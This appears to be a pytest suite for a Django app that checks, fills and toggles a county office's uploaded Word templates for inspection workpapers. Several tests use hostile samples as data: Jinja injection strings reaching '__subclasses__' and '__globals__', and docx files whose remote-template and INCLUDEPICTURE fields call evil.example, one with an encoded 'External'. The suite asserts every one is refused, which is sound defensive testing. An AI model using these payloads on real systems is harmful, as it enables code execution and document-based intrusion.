"""A county's own Word templates: checked field by field, filled in a sandbox, switched on and off."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from tests.cast import Cast
from xuncha.cycle.workpapers import actions as papers
from xuncha.cycle.workpapers.models import WorkPaper
from xuncha.foundation.engines import calling
from xuncha.foundation.models import AuditEvent
from xuncha.library.models import WordTemplate
from xuncha.library.templating import actions
from xuncha.office.forms import filling
from xuncha.office.forms.fields import Names
from xuncha.office.forms.starting import starter

Enter = Callable[..., Client]
SLUG = "workpapers-print_paper"
NAMES: Names = {"问题标题": (), "查证事实": (), "支撑材料": ("编号", "名称")}


def word(*lines: str, rows: tuple[str, ...] = ()) -> bytes:
    """A Word file with these paragraphs, and a table with a cell a row."""
    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    if rows:
        table = document.add_table(rows=len(rows), cols=1)
        for row, text in zip(table.rows, rows, strict=True):
            row.cells[0].text = text
    held = io.BytesIO()
    document.save(held)
    return held.getvalue()


def told(content: bytes) -> str:
    document = docx.Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([paragraph.text for paragraph in document.paragraphs] + cells)


def test_fields_and_rows_are_filled_in_and_lines_stay_lines() -> None:
    content = word(
        "{{ 问题标题 }}",
        "{{ 查证事实 }}",
        rows=("{%tr for 行 in 支撑材料 %}", "{{ 行.编号 }} {{ 行.名称 }}", "{%tr endfor %}"),
    )
    assert filling.check(content, NAMES) == ["问题标题", "查证事实", "支撑材料"]
    fields: dict[str, Any] = {
        "问题标题": "第一<议题> & 其他",
        "查证事实": "一\n二",
        "支撑材料": [{"编号": "证-01", "名称": "记录"}, {"编号": "证-02", "名称": "照片"}],
    }
    made = told(filling.fill(content, fields, "籍芷若 2026-11-20 10:00"))
    assert "第一<议题> & 其他" in made and "一\n二" in made
    assert "证-01 记录" in made and "证-02 照片" in made
    header = docx.Document(io.BytesIO(filling.fill(content, fields, "籍芷若"))).sections[0].header
    assert "籍芷若" in "".join(paragraph.text for paragraph in header.paragraphs)


def test_an_unknown_field_is_named_with_its_neighbours() -> None:
    content = word("{{ 问题题目 }} {% for 行 in 支撑材料 %}{{ 行.页数 }}{% endfor %}")
    with pytest.raises(filling.FillingError) as error:
        filling.check(content, NAMES)
    assert error.value.code == "unknown"
    assert error.value.figures["names"] == ["问题题目", "支撑材料.页数"]
    assert error.value.figures["near"]["问题题目"] == ["问题标题"]


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (word("{% for 行 in 支撑材料 %}"), "syntax"),
        (word("{{ 问题标题"), "syntax"),
        (b"PK\x03\x04 not a zip", "broken"),
        (b"", "broken"),
        (word("{{ range(3) }}"), "unknown"),
        (word("{{ config }}"), "unknown"),
    ],
)
def test_what_cannot_be_a_template_is_refused(content: bytes, code: str) -> None:
    with pytest.raises(filling.FillingError) as error:
        filling.check(content, NAMES)
    assert error.value.code == code


@pytest.mark.parametrize(
    "line",
    [
        "{{ 问题标题.__class__.__mro__[1].__subclasses__() }}",
        "{{ 问题标题.format.__globals__ }}",
        "{{ ''.__class__ }}",
    ],
)
def test_nothing_behind_a_field_can_be_reached(line: str) -> None:
    try:
        made = told(filling.fill(word(line), {"问题标题": "标题"}))
    except filling.FillingError:
        return
    assert "class" not in made and "globals" not in made


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FETCH = f'Type="{OFFICE}/attachedTemplate"'


def changed(part: str, before: str, new: str) -> bytes:
    """A template with `new` put before `before` in one part."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word("{{ 问题标题 }}"))) as old, zipfile.ZipFile(out, "w") as made:
        for name in old.namelist():
            data = old.read(name)
            made.writestr(
                name, data.replace(before.encode(), (new + before).encode(), 1) if name == part else data
            )
    return out.getvalue()


def related(attributes: str) -> bytes:
    return changed("word/_rels/document.xml.rels", "</Relationships>", f'<Relationship Id="x" {attributes}/>')


def coded(*codes: str) -> bytes:
    """With a field of Word whose code is written in these runs."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return changed("word/document.xml", "<w:sectPr", f"<w:p>{runs}</w:p>")


@pytest.mark.parametrize(
    "content",
    [
        related(f'{FETCH} Target="http://evil.example/a.dotm" TargetMode="External"'),
        related(f"{FETCH} Target='http://evil.example/a' TargetMode='External'"),
        related(f'{FETCH} Target="http://evil.example/hyperlink" TargetMode="External"'),
        related(f'{FETCH} Target="http://evil.example/?a>b" TargetMode="External"'),
        related(f'{FETCH} Target="http://evil.example/a" TargetMode="Exter&#110;al"'),
        related(f'Type="{OFFICE}/aFChunk" Target="page.html"'),
        coded(' INCLUDEPICTURE "http://evil.example/a.png" '),
        coded(" INCLUDE", 'PICTURE "http://evil.example/a.png" '),
        coded(" {{ 问题标题 }} "),
    ],
)
def test_a_file_that_would_call_out_is_refused(content: bytes) -> None:
    with pytest.raises(filling.FillingError) as error:
        filling.check(content, NAMES)
    assert error.value.code == "fetches"


def test_links_to_click_and_page_numbers_are_no_calls() -> None:
    assert filling.check(coded(" PAGE ", ' HYPERLINK "http://a.example" '), NAMES) == ["问题标题"]
    link = related(f'Type="{OFFICE}/hyperlink" Target="http://a.example" TargetMode="External"')
    assert filling.check(link, NAMES) == ["问题标题"]


@pytest.mark.parametrize(
    "line", ["{{ 问题标题|safe }}", "{% autoescape false %}{{ 问题标题 }}{% endautoescape %}"]
)
def test_no_text_is_written_as_it_is(line: str) -> None:
    """Words of a record would become parts of the file."""
    with pytest.raises(filling.FillingError) as error:
        filling.check(word(line), NAMES)
    assert error.value.code == "syntax"


def test_the_starter_names_every_field_and_passes_its_own_check(cast: Cast) -> None:
    names = actions.names_of(SLUG)
    made = starter("巡察问题底稿", names)
    assert set(filling.check(made, names)) == set(names)


def upload(browser: Client, content: bytes, name: str = "本县底稿.docx") -> Any:
    return browser.post(
        reverse("library:word_template_upload", args=[SLUG]),
        {"file": SimpleUploadedFile(name, content), "note": "第一版"},
    )


@pytest.fixture
def paper(cast: Cast) -> WorkPaper:
    draft = WorkPaper(
        title="“第一议题”落实不严", summary="概述。", facts="查阅记录11次。", analysis="重视不够。"
    )
    return papers.draft_paper(draft, engagement=cast.engagement, by=cast.member)


def as_word(browser: Client, paper: WorkPaper) -> str:
    answer = browser.get(reverse("workpapers:print", args=[paper.pk]) + "?as=docx")
    assert answer.status_code == 200
    return told(answer.content)


@pytest.mark.slow
def test_uploaded_tried_used_and_switched_back(cast: Cast, enter: Enter, paper: WorkPaper) -> None:
    office = enter(cast.staff)
    assert "巡察问题底稿" in office.get(reverse("library:word_templates")).content.decode()
    page = reverse("library:word_template", args=[SLUG])
    assert "{{ 问题标题 }}" in office.get(page).content.decode()
    assert upload(office, word("本县底稿专用", "{{ 问题标题 }}")).status_code == 302
    made = WordTemplate.objects.get()
    assert made.fields == ["问题标题"]
    leader = enter(cast.leader)
    assert "本县底稿专用" not in as_word(leader, paper)
    assert office.post(reverse("library:word_template_use", args=[SLUG, made.pk])).status_code == 302
    assert "本县底稿专用\n“第一议题”落实不严" in as_word(leader, paper)
    assert upload(office, word("第二版 {{ 问题标题 }}")).status_code == 302
    second = WordTemplate.objects.latest("pk")
    office.post(reverse("library:word_template_use", args=[SLUG, second.pk]))
    assert WordTemplate.objects.filter(in_use=True).get() == second
    assert "第二版" in as_word(leader, paper)
    assert office.post(reverse("library:word_template_stop", args=[SLUG])).status_code == 302
    assert "第二版" not in as_word(leader, paper)
    calling.stop_all()


def test_a_trial_shows_only_what_its_person_may_print(cast: Cast, enter: Enter, paper: WorkPaper) -> None:
    office = enter(cast.staff)
    upload(office, word("试 {{ 问题标题 }}"))
    trial = reverse("library:word_template_trial", args=[SLUG, WordTemplate.objects.get().pk])
    assert office.post(trial, {"record": paper.pk}).status_code == 404  # a draft is not the office's to read
    assert office.post(trial, {"record": ""}).status_code == 409
    calling.stop_all()


@pytest.mark.slow
def test_a_trial_stands_in_the_trail_of_its_record(cast: Cast, enter: Enter) -> None:
    slug = "planning-print_notice"
    file = SimpleUploadedFile("本县通知.docx", word("试"))
    made = actions.upload(slug, file, note="", by=cast.staff)
    url = reverse("library:word_template_trial", args=[slug, made.pk])
    assert enter(cast.staff).post(url, {"record": cast.engagement.pk}).status_code == 200
    trail = AuditEvent.objects.filter(action="record.exported", kind="engagement")
    assert list(trail.values_list("record_id", flat=True)) == [cast.engagement.pk]
    calling.stop_all()


def test_faults_come_back_by_name_and_nothing_is_kept(cast: Cast, enter: Enter) -> None:
    office = enter(cast.staff)
    answer = upload(office, word("{{ 问题题目 }}"))
    assert answer.status_code == 422
    assert "问题题目（是不是：问题标题" in answer.content.decode()
    assert upload(office, b"\x89PNG\r\n\x1a\n", "图.docx").status_code in (409, 415, 422)
    assert not WordTemplate.objects.exists()
    calling.stop_all()


def test_doors(cast: Cast, enter: Enter) -> None:
    for who in ("member", "head", "discipline", "secretary"):
        browser = enter(getattr(cast, who))
        assert browser.get(reverse("library:word_templates")).status_code == 403, who
        assert upload(browser, word("x")).status_code == 403, who
        assert browser.post(reverse("library:word_template_stop", args=[SLUG])).status_code == 403, who
    assert enter(cast.staff).get(reverse("library:word_template", args=["nothing"])).status_code == 404
